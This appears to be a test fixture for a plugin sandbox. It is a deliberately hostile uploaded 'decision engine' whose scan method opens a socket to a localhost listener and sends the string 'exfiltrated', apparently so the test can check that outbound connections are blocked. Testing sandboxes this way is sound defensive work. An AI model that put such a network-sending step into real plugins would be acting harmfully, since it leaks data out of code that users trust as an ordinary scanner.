"""Hostile upload: opens a socket to a listener on 127.0.0.1 (the test puts its port in place of PORT_HERE)."""

from pydantic import BaseModel, Field

from engines.contract import ScanContext, ScanResult
from engines.snapshot_aws import Snapshot
from engines.uploaded import DecisionEngine


class HostileSettings(BaseModel):
    level: int = Field(1, description="how hard to try")


class Hostile(DecisionEngine[HostileSettings]):
    """opens a socket to a listener on 127.0.0.1 (the test puts its port in place of PORT_HERE)."""

    name = "socket-client"
    title = "Hostile socket-client"
    Settings = HostileSettings

    def scan(self, snapshot: Snapshot, ctx: ScanContext[HostileSettings]) -> ScanResult:
        import socket

        with socket.create_connection(("127.0.0.1", int("PORT_HERE")), timeout=3) as conn:
            conn.sendall(b"exfiltrated")
        return ScanResult()
